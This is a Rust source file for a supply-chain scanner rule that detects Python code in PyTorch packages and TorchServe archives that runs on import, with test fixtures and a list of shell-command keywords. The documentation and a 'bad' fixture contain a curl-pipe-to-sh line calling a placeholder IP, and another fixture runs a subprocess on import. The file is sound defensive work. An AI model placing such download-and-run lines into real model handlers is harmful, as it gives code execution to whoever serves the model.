use stance_core::fact::{Artifact, ArtifactFormat, Embedded, EmbeddedKind};
use stance_core::{Confidence, Severity};
use stance_inspect::zip;
use stance_inspect::zip::python_source::ON_IMPORT;

use crate::{Cx, Rule};

rule! {
    /// # Model archive whose Python code reaches for the system
    ///
    /// ## What it finds
    /// A torch package or a TorchServe archive with Python modules that start programs, run text as code or open
    /// connections. It is high where that happens as soon as the module is imported or where the call carries a
    /// shell command, low where the call stands in a function and may be part of the model's work.
    ///
    /// ## Why it matters
    /// Loading a torch package imports the modules that its pickles name, out of the package itself; TorchServe
    /// imports the handler of an archive when the model is registered. The code runs with the rights of whoever
    /// loads or serves the model, and no prediction has to be asked for.
    ///
    /// ## Example
    /// ```text
    /// model.mar
    ///   MAR-INF/MANIFEST.json   "handler": "handler.py"
    ///   handler.py              os.system("curl http://192.0.2.1/x | sh")
    /// ```
    ///
    /// ## Fix
    /// Read the modules before anything loads the file. Serve with one of the handlers that come with TorchServe,
    /// and exchange weights alone, as safetensors, where the code can come from your own repository.
    ///
    /// ## References
    /// - [PyTorch: torch.package](https://docs.pytorch.org/docs/stable/package.html)
    /// - [TorchServe: custom handlers](https://docs.pytorch.org/serve/custom_service.html)
    BundledCode {
        id: "model/bundled-code",
        severity: High,
        stage: Supply,
        controls: [
            "owasp-llm-2025:LLM03",
            "owasp-agentic-2026:ASI05",
            "mitre-atlas:AML.T0011.000",
            "mitre-atlas:AML.T0010.003",
            "nist-ai-rmf-1.0:MEASURE 2.7",
            "eu-ai-act:Art. 15",
        ],
        bad: [
            crate::made!("model.mar", shell_on_import),
            crate::made!("package.pt", shell_in_a_package),
        ],
        good: [
            crate::made!("model.mar", plain_handler),
            crate::made!("package.pt", plain_package),
        ],
    }
}

impl Rule for BundledCode {
    fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
        cx.judges_if(matches!(artifact.format, ArtifactFormat::TorchPackage | ArtifactFormat::TorchserveArchive));
        if !matches!(
            artifact.format,
            ArtifactFormat::TorchPackage | ArtifactFormat::TorchserveArchive
        ) {
            return;
        }
        let calls = artifact.embedded.iter().filter(|embedded| {
            // The entry of a module as a whole names its file.
            embedded.kind == EmbeddedKind::Source && !embedded.name.ends_with(".py")
        });
        let (strong, weak): (Vec<&Embedded>, Vec<&Embedded>) =
            calls.partition(|call| is_strong(call));
        for call in strong {
            cx.report(&call.evidence, message(call));
        }
        if let Some((first, others)) = weak.split_first() {
            let mut draft = cx
                .report(&first.evidence, message(first))
                .severity(Severity::Low)
                .confidence(Confidence::Medium);
            for call in others.iter().take(8) {
                draft = draft.also(&call.evidence);
            }
        }
    }
}

fn message(call: &Embedded) -> String {
    match call.detail.strip_prefix(ON_IMPORT) {
        Some(line) => format!("Loading the model runs `{line}`"),
        None => format!("A module of the model can run `{}`", call.detail),
    }
}

/// Whether a call is more than a model may need: it carries a command, or is made on import.
fn is_strong(call: &Embedded) -> bool {
    let imported = call.detail.strip_prefix(ON_IMPORT);
    let line = imported.unwrap_or(&call.detail);
    let installs = line.contains("pip") && line.contains("install");
    let shell = matches!(call.name.as_str(), "os.system" | "os.popen" | "pty.spawn");
    let quoted = line.contains(&format!("{}(\"", call.name)) || line.contains(&format!("{}('", call.name));
    let measured = installs || line.contains("nvidia-smi");
    carries_command(line)
        || shell && quoted && !measured
        || imported.is_some() && !measured && acts(&call.name, line)
}

/// Whether a call does by itself what no model has to do while it is imported.
fn acts(callee: &str, line: &str) -> bool {
    const MODULES: [&str; 8] = [
        "'os'", "\"os\"", "subprocess", "socket", "'pty'", "\"pty\"", "builtins", "marshal",
    ];
    match callee {
        "__import__" => MODULES.iter().any(|module| line.contains(module)),
        _ => !callee.starts_with("ctypes."),
    }
}

/// Whether a line of code holds words of a shell command.
fn carries_command(line: &str) -> bool {
    const WORDS: [&str; 18] = [
        "curl ", "wget ", "/bin/sh", "/bin/bash", "bash -c", "bash -i", "sh -c", "| sh", "|sh", "/dev/tcp/",
        "nc -e", "powershell", "cmd.exe", "base64 -d", "rm -rf", "chmod +x", "whoami", "python -c",
    ];
    let lower = line.to_ascii_lowercase();
    WORDS.iter().any(|word| lower.contains(word))
}

const PICKLE: &[u8] = b"\x80\x02}q\x00(X\x01\x00\x00\x00aq\x01K\x01u.";
const MANIFEST: &str = r#"{"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py"}}"#;

fn mar(handler: &str) -> Vec<u8> {
    zip::assemble::zip(&[
        zip::assemble::part("MAR-INF/MANIFEST.json", MANIFEST),
        zip::assemble::part("handler.py", handler),
        zip::assemble::part("m.pt", zip::assemble::zip(&zip::assemble::torch(PICKLE))),
    ])
}

fn package(module: &str) -> Vec<u8> {
    zip::assemble::zip(&[
        zip::assemble::part("p/.data/extern_modules", "torch\n"),
        zip::assemble::part("p/.data/version", "6\n"),
        zip::assemble::part("p/model/model.pkl", PICKLE),
        zip::assemble::part("p/mine/model.py", module),
    ])
}

fn shell_on_import() -> Vec<u8> {
    mar("import os\nos.system(\"curl http://192.0.2.1/x | sh\")\n")
}

fn shell_in_a_package() -> Vec<u8> {
    package("import subprocess\nclass Model:\n    subprocess.Popen([\"id\"])\n")
}

fn plain_handler() -> Vec<u8> {
    mar(
        "import os, json\n\"\"\"\nCalls os.system(x) never.\n\"\"\"\ndef handle(data, context):\n    \
         # subprocess.run(x)\n    model.eval()\n    return [json.dumps(len(item)) for item in data]\n",
    )
}

fn plain_package() -> Vec<u8> {
    package("import torch\nclass Model(torch.nn.Module):\n    def forward(self, x):\n        return x\n")
}
